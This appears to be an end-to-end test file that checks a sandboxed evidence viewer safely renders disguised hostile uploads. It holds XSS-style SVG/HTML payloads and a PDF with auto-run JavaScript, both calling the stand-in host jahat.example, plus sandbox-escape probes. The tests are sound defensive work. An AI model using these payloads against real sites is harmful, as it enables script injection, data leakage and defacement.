// Evidence as an officer sees it: shown in a frame that can reach nothing, by what it is and not by what it is called.
import { readFile } from 'node:fs/promises'
import { dayOf } from '@kentongan/domain/calendar'
import type { BrowserContext, Frame, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import { axeViolations } from '../src/axe.ts'
import { openCase, signInAtDesk } from '../src/desk-page.ts'
import { nextTotp, startTestOffice, type TestOffice } from '../src/office.ts'
import { makeTestReport } from '../src/reports.ts'
import { makeSender } from '../src/sender.ts'
import { watchTroubles } from '../src/troubles.ts'

const title = 'Laporan dengan bukti yang jahat'
const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))

/** One page that says a sentence, runs a script when it opens, and has a link all over it. */
const pdf = bytesOf(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("https://jahat.example/js"))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/Annots[6 0 R]>>endobj
4 0 obj<</Length 62>>stream
1 0 0 rg 0 0 150 200 re f 0 g BT /F 18 Tf 20 90 Td (Kuitansi palsu) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(https://jahat.example/uri)>>>>endobj
trailer<</Root 1 0 R/Size 7>>
%%EOF
`)
const attack = `fetch('https://jahat.example/f');parent.document.title='DIRETAS'`
const hostile = {
  'gambar.jpg': bytesOf(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script></svg>`,
  ),
  'halaman.jpg': bytesOf(
    `<!doctype html><img src=x onerror="${attack}"><script>${attack}</script>`,
  ),
  'kuitansi.png': pdf,
  'arsip.jpg': bytesOf('PK\u0003\u0004\u0014\u0000\u0000\u0000'),
  'rusak.jpg': bytesOf('\u00ff\u00d8\u00ff\u00e0 bukan gambar'),
  // Frames of silence: MPEG 1, layer III, 128 kbit/s, 44.1 kHz.
  'suara.mp4': new Uint8Array(
    Buffer.concat(
      Array.from({ length: 40 }, () =>
        Buffer.concat([Buffer.from('fffb9064', 'hex'), Buffer.alloc(413)]),
      ),
    ),
  ),
}
/** What a camera writes beside a picture: APP1, Exif, and a word to be found again. */
const exif = (jpeg: Buffer): Uint8Array<ArrayBuffer> => {
  const body = Buffer.from('Exif\0\0MM\0*\0\0\0\u0008\0\0 KAMERA-PAK-BUDI', 'latin1')
  const head = Buffer.from([0xff, 0xe1, (body.length + 2) >> 8, (body.length + 2) & 255])
  return new Uint8Array(Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]))
}

let office: TestOffice
let context: BrowserContext
let page: Page
let troubles: readonly string[]

beforeAll(async () => {
  office = await startTestOffice(1)
  const { data, founded, server } = office.demo
  const day = dayOf(new Date())
  const drawing = await (await office.chromium.newContext()).newPage()
  const drawn = await drawing.evaluate(() => {
    const canvas = document.createElement('canvas')
    canvas.width = 320
    canvas.height = 200
    const pen = canvas.getContext('2d')
    if (pen !== null) pen.fillStyle = '#c00'
    pen?.fillRect(0, 0, 160, 200)
    return canvas.toDataURL('image/jpeg').split(',')[1] ?? ''
  })
  await drawing.context().close()
  const files = { 'foto.jpg': exif(Buffer.from(drawn, 'base64')), ...hostile }
  const sender = await makeSender({ data, founded, server, day, remove: () => office.stop() })
  const contents = Object.values(files)
  const sent = await sender.send(
    makeTestReport(founded.office, day, title, contents, Object.keys(files)),
  )
  if (!sent.ok) throw new Error(sent.code)
  context = await office.chromium.newContext({ viewport: { width: 1280, height: 800 } })
  page = await context.newPage()
  page.setDefaultTimeout(15_000)
  const login = office.officer('verifikator1')
  await signInAtDesk(page, office.origin, { login, totp: await nextTotp(login) })
  await openCase(page, title)
})
afterAll(async () => {
  await context?.close()
  await office?.stop()
})

const requests: string[] = []
beforeEach(() => {
  requests.length = 0
  page.on('request', (one) => requests.push(one.url()))
  troubles = watchTroubles(page)
})
afterEach(async () => {
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  page.removeAllListeners('request')
})

const view = (name: string) => page.getByRole('button', { name: `Lihat ${name}` }).click()
const shown = () =>
  page.getByRole('dialog').getByText('Sudah ditampilkan.').waitFor({ state: 'attached' })
const frameOf = (): Frame => {
  const frame = page.frames().find((one) => one.url().includes('/penampil'))
  if (frame === undefined) throw new Error('no frame')
  return frame
}
/** All that was asked for but the case's own evidence and what lies in the frame’s memory. */
const asked = () =>
  requests
    .filter((url) => !url.startsWith('blob:') && !url.includes('/api/'))
    .map((url) => url.replace(office.origin, ''))

it('a picture is seen, and its safe copy holds nothing but what is seen', async () => {
  await view('foto.jpg')
  await shown()
  expect(await frameOf().evaluate(() => document.querySelector('img')?.naturalWidth)).toBe(320)
  expect(asked()).toEqual(['/penampil'])
  expect(await axeViolations(page)).toEqual([])
  const coming = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Unduh salinan aman' }).click()
  const copy = await coming
  expect(copy.suggestedFilename()).toBe('bukti-salinan.jpg')
  const bytes = await readFile(await copy.path())
  expect(bytes.subarray(0, 3).toString('hex')).toBe('ffd8ff')
  expect(bytes.toString('latin1')).not.toMatch(/Exif|KAMERA/)
  const original = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Unduh asli' }).click()
  expect((await readFile(await (await original).path())).toString('latin1')).toMatch(/KAMERA/)
  expect(troubles).toEqual([])
})

it('a PDF is seen and read out whatever it is called; its script and its link do nothing', async () => {
  await view('kuitansi.png')
  await shown()
  const frame = frameOf()
  const section = frame.getByRole('region', { name: 'Halaman 1 dari 1' })
  await section.getByText('Kuitansi palsu').waitFor({ state: 'attached' })
  const [left, right] = await frame.evaluate(() => {
    const canvas = document.querySelector('canvas')
    const pen = canvas?.getContext('2d')
    const at = (x: number) => [...(pen?.getImageData((canvas?.width ?? 0) * x, 9, 1, 1).data ?? [])]
    return [at(0.2), at(0.8)]
  })
  expect([left, right]).toEqual([
    [255, 0, 0, 255],
    [255, 255, 255, 255],
  ])
  await section.click({ position: { x: 150, y: 100 } })
  expect(await frame.evaluate(() => document.querySelectorAll('a').length)).toBe(0)
  expect(asked()).toEqual(['/penampil-pdf'])
  expect(context.pages()).toHaveLength(1)
  expect(troubles).toEqual([])
})

it.each(['gambar.jpg', 'halaman.jpg'])(
  '%s, which is no picture, is read and never run',
  async (name) => {
    await view(name)
    await shown()
    const frame = frameOf()
    expect(await frame.evaluate(() => document.body.textContent)).toContain('jahat.example')
    expect(
      await frame.evaluate(() => document.querySelectorAll('svg, img, body script').length),
    ).toBe(0)
    expect(await page.title()).not.toBe('DIRETAS')
    expect(asked()).toEqual(['/penampil'])
    expect(troubles).toEqual([])
  },
)

it('sound is played by what it is', async () => {
  await view('suara.mp4')
  await shown()
  expect(await frameOf().evaluate(() => document.querySelector('audio')?.duration)).toBeGreaterThan(
    0.9,
  )
})

it('what is not shown, and what cannot be, is said, with the download at hand', async () => {
  await view('arsip.jpg')
  await page.getByText('Berkas jenis ini tidak ditampilkan di meja.').waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  await view('rusak.jpg')
  await page.getByText('Isi berkas tidak dapat ditampilkan.').waitFor()
  await page.getByRole('button', { name: 'Unduh asli' }).waitFor()
})

it('whoever took the frame over reaches no network, no storage, no parent, and no other page', async () => {
  await view('foto.jpg')
  await shown()
  const frame = frameOf()
  const reached = await frame.evaluate(async (origin) => {
    const tries: Record<string, () => unknown> = {
      fetch: () => fetch(`${origin}/api/office`),
      beacon: () => {
        if (!navigator.sendBeacon(`${origin}/api/office`, 'x')) throw new Error('refused')
        throw new Error('sent to nowhere: the policy is asked later')
      },
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(origin.replace('http', 'ws'))
          socket.onopen = resolve
          socket.onerror = reject
        }),
      picture: () =>
        new Promise((resolve, reject) => {
          const image = new Image()
          image.onload = resolve
          image.onerror = reject
          image.src = `${origin}/favicon.svg`
        }),
      script: () =>
        new Promise((resolve, reject) => {
          const script = document.createElement('script')
          script.onload = resolve
          script.onerror = reject
          script.src = `${origin}/assets/x.js`
          document.head.append(script)
        }),
      parent: () => parent.document.title,
      top: () => top?.location.href,
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      database: () =>
        new Promise((resolve, reject) => {
          const opening = indexedDB.open('x')
          opening.onsuccess = resolve
          opening.onerror = reject
        }),
      worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
      window: () => {
        if (window.open(`${origin}/`) === null) throw new Error('refused')
      },
      code: () => new Function('return 1')(),
    }
    const reached: string[] = []
    for (const [name, act] of Object.entries(tries)) {
      try {
        await act()
        reached.push(name)
      } catch {
        // Refused, as it should be.
      }
    }
    return [self.origin, ...reached]
  }, office.origin)
  expect(reached).toEqual(['null'])
  expect(asked().filter((url) => url !== '/penampil' && !url.startsWith('/favicon'))).toEqual([])
  // It cannot lead the tab away, nor itself to another site.
  await frame.evaluate(() => {
    location.href = 'https://jahat.example/'
  })
  await frame
    .evaluate(() => {
      if (top !== null) top.location.href = 'https://jahat.example/'
    })
    .catch(() => undefined)
  expect(requests.filter((url) => url.includes('jahat'))).toEqual([])
  expect(page.url()).toContain('/meja')
})

it('the page of the frame opens for no other site, and alone has no origin', async () => {
  const answer = await fetch(`${office.origin}/penampil`)
  const policy = answer.headers.get('content-security-policy') ?? ''
  expect(policy).toMatch(/script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; connect-src 'none'/)
  expect(policy).toMatch(/frame-ancestors 'self'; sandbox allow-scripts$/)
  expect(await answer.text()).not.toMatch(/ (src|href)=/)
})
